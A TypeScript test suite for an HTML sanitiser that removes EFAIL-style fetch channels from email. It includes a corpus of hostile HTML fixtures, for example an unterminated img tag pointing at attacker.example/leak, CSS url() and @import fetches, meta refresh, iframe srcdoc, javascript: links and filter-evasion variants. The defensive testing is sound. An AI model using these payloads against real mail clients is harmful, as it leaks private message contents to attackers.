/**
 * neutralizeHtml: no construct that makes a browser or mail client fetch survives
 * (the EFAIL exfiltration channels: images, styles, frames, forms, base URLs,
 * refreshes, backgrounds, SVG and MathML links, conditional comments), text stays.
 *
 * Oracle on every output: parsed again by the same WHATWG parser a client uses,
 * no element outside the allowlist, no attribute outside it, no attribute value
 * with a scheme, a path or a CSS function, and neutralising again changes nothing.
 * Checked on a corpus of known channels and on random mixtures of them.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'parse5';
import { neutralizeHtml } from '../../src/mime/neutralize-html.ts';
import { Prng } from '../fuzz/fuzz-kit.ts';

interface Node {
  nodeName: string;
  tagName?: string;
  attrs?: { name: string; value: string }[];
  childNodes?: Node[];
  content?: Node;
  value?: string;
}

const ALLOWED_ELEMENTS = new Set([
  'html', 'head', 'meta', 'body', 'a', 'abbr', 'address', 'article', 'aside', 'b', 'bdi', 'bdo', 'big', 'blockquote', 'br', 'caption',
  'center', 'cite', 'code', 'col', 'colgroup', 'dd', 'del', 'details', 'dfn', 'div', 'dl', 'dt', 'em', 'figcaption', 'figure',
  'font', 'footer', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'header', 'hr', 'i', 'ins', 'kbd', 'li', 'main', 'mark', 'nav', 'ol', 'p',
  'pre', 'q', 's', 'samp', 'section', 'small', 'span', 'strike', 'strong', 'sub', 'summary', 'sup', 'table', 'tbody', 'td',
  'tfoot', 'th', 'thead', 'time', 'tr', 'tt', 'u', 'ul', 'var', 'wbr',
]);
const URL_ATTRIBUTES = /^(src|srcset|href|xlink:href|action|formaction|background|poster|data|codebase|cite|longdesc|lowsrc|dynsrc|ping|manifest|style|content|http-equiv|srcdoc|class|id|on.*)$/;

/** Every element and attribute of `html` as the client's parser sees it. */
function inspect(html: string): { elements: string[]; attributes: [string, string, string][] } {
  const elements: string[] = [];
  const attributes: [string, string, string][] = [];
  const stack: Node[] = [parse(html) as unknown as Node];
  while (stack.length) {
    const n = stack.pop()!;
    if (n.tagName) {
      elements.push(n.tagName);
      for (const a of n.attrs ?? []) attributes.push([n.tagName, a.name, a.value]);
    }
    if (n.content) stack.push(n.content);
    stack.push(...(n.childNodes ?? []));
  }
  return { elements, attributes };
}

function assertNothingFetches(input: string, output: string): void {
  const { elements, attributes } = inspect(output);
  for (const e of elements) assert.ok(ALLOWED_ELEMENTS.has(e), `<${e}> survived from ${JSON.stringify(input).slice(0, 200)}`);
  for (const [e, name, value] of attributes) {
    if (e === 'meta' && name === 'charset') continue;
    assert.doesNotMatch(name, URL_ATTRIBUTES, `${e}[${name}] survived from ${JSON.stringify(input).slice(0, 200)}`);
    assert.doesNotMatch(value, /[:/\\()'"]/, `${e}[${name}="${value}"] survived`);
  }
  assert.doesNotMatch(output, /<!--/, 'no comment survives');
  // Idempotent: what comes out is already neutral.
  assert.equal(neutralizeHtml(output).html, output, 'neutralising twice changes nothing');
}

const CHANNELS = [
  '<img src="http://attacker.example/leak?',
  '<img src=//e.x/',
  '<img srcset="http://a.example/1x.png 1x">',
  '<image src="http://a.example/i">',
  '<picture><source srcset="http://a.example/s"><img src="http://a.example/i"></picture>',
  '<div style="background:url(http://a.example/bg)">x</div>',
  '<style>@import "http://a.example/s.css"; body{background:url(//a.example/b)}</style>',
  '<style>@font-face{font-family:x;src:url(http://a.example/f)}</style>',
  '<link rel="stylesheet" href="http://a.example/s.css">',
  '<link rel="prefetch" href="http://a.example/p">',
  '<meta http-equiv="refresh" content="0;url=http://a.example/r">',
  '<base href="http://a.example/">',
  '<form action="http://a.example/f"><input type="image" src="http://a.example/i"><button formaction="http://a.example/b">go</button></form>',
  '<iframe src="http://a.example/f"></iframe>',
  '<iframe srcdoc="&lt;img src=http://a.example/x&gt;"></iframe>',
  '<object data="http://a.example/o"><param name="movie" value="http://a.example/m"></object>',
  '<embed src="http://a.example/e">',
  '<video poster="http://a.example/p" src="http://a.example/v"><track src="http://a.example/t"></video>',
  '<audio src="http://a.example/a"></audio>',
  '<svg><image href="http://a.example/s"/><use xlink:href="http://a.example/u#x"/></svg>',
  '<math><mi xlink:href="http://a.example/m">x</mi></math>',
  '<table background="http://a.example/t"><tr><td background="http://a.example/d">cell</td></tr></table>',
  '<body background="http://a.example/b">',
  '<a href="http://a.example/l" ping="http://a.example/p">link</a>',
  '<a href="javascript:alert(1)">js</a>',
  '<img src="data:image/png;base64,AAAA">',
  '<!--[if mso]><img src="http://a.example/mso"><![endif]-->',
  '<noscript><img src="http://a.example/n"></noscript>',
  '<template><img src="http://a.example/t"></template>',
  '<x-widget src="http://a.example/x">custom</x-widget>',
  '<frameset><frame src="http://a.example/fr"></frameset>',
  '<div style="behavior:url(x.htc)">ie</div>',
  '<font face="x" color="red" size="3">font</font>',
  '<p align="center" title="see http://a.example/ (text only)">para</p>',
  '<td width="100%" bgcolor="#ffffff">w</td>',
  '<div lang="ja" dir="rtl" class="c" id="i" onclick="x()">attrs</div>',
  '<img src="cid:part1@example">',
  '<img alt="logo" src="http://a.example/logo.png">',
  '<p>&lt;img src="http://not-a-tag.example/"&gt; is text</p>',
  '<pre>\n\nindented</pre>',
  '<plaintext><img src="http://a.example/p">',
  '<xmp><img src="http://a.example/x"></xmp>',
  '<textarea><img src="http://a.example/t"></textarea>',
  '<select><option><img src="http://a.example/o"></option></select>',
  '<sc<script>ript>alert(1)</script>',
  '<img\nsrc\n=\n"http://a.example/nl">',
  '<IMG SRC="http://a.example/UPPER">',
  '<img src=&#104;ttp://a.example/entity>',
  '<div>\u0000<img src="http://a.example/nul"></div>',
  '<a href="http://a.example/">',
  '</p><img src="http://a.example/after-close">',
  '<isindex action="http://a.example/i">',
  '<portal src="http://a.example/p"></portal>',
  '<details open><summary>s</summary><img src="http://a.example/d"></details>',
];

test('every known fetch channel is removed, and the text around it stays', () => {
  for (const c of CHANNELS) {
    const input = `<p>before</p>${c}<p>after SECRET</p>`;
    const { html } = neutralizeHtml(input);
    assertNothingFetches(input, html);
    assert.doesNotMatch(html, /a\.example|attacker\.example|e\.x\/|javascript:|data:image/i, `a URL survived from ${c}: ${html}`);
  }
  const kept = neutralizeHtml('<p align="center"><b>Dear</b> Bob, <a href="http://x.example/">the report</a><br>is <font color="red">late</font>.</p><img alt="chart" src="http://x.example/c.png">').html;
  assert.match(kept, /<p align="center"><b>Dear<\/b> Bob, <a>the report<\/a><br>is <font color="red">late<\/font>\.<\/p>\[chart\]/);
  assert.match(neutralizeHtml('<pre>\n\nindented</pre>').html, /<pre>\n\nindented<\/pre>/, 'the newline the parser drops after <pre> is written back');
});

test('random mixtures of channels, fragments and bytes never let anything fetch', () => {
  const r = new Prng(0x5eed);
  const pieces = [...CHANNELS, '<', '>', '"', "'", '=', ' src=', ' href=', 'http://a.example/', '<div>', '</div>', '<table>', '<td>', '<svg>', '<math>', '<!--', '-->', '<![CDATA[', ']]>', '&', '&#x3c;', '\u0000', '<p title="', '<a href=', 'url(', '@import'];
  for (let i = 0; i < 1500; i++) {
    let input = '';
    const n = 1 + r.int(12);
    for (let k = 0; k < n; k++) input += r.chance(0.15) ? String.fromCharCode(r.int(128)) : r.pick(pieces);
    assertNothingFetches(input, neutralizeHtml(input).html);
  }
});

test('hostile nesting is written as text beyond a depth, without exhausting the stack', () => {
  const deep = '<div>'.repeat(20_000) + 'deep text' + '</div>'.repeat(20_000);
  const { html } = neutralizeHtml(deep);
  assert.match(html, /deep text/);
  assert.ok((html.match(/<div>/g) ?? []).length <= 256);
});

test('the banner is escaped text on top', () => {
  const { html } = neutralizeHtml('<p>x</p>', { banner: 'Warning <b>&\nnext line', lang: 'ja' });
  assert.match(html, /^<html lang="ja">/, 'no document type: the input had none (quirks mode), and so does the output');
  assert.match(neutralizeHtml('<!DOCTYPE html><p>x').html, /^<!DOCTYPE html>\n<html>/);
  assert.match(html, /Warning &lt;b&gt;&amp;<br>next line/);
});
